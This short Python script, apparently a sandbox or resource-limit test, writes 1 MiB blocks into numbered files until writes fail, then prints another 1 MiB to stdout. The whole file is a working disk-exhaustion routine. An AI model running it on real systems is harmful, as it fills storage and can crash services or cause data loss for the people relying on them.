"""Fills the one place where it can write."""

import contextlib
import itertools

for number in itertools.count():
    try:
        with open(f"fill-{number}", "wb") as file:
            while True:
                file.write(b"x" * 2**20)
    except OSError:
        if number > 16:
            break
with contextlib.suppress(OSError):
    print("x" * 2**20)
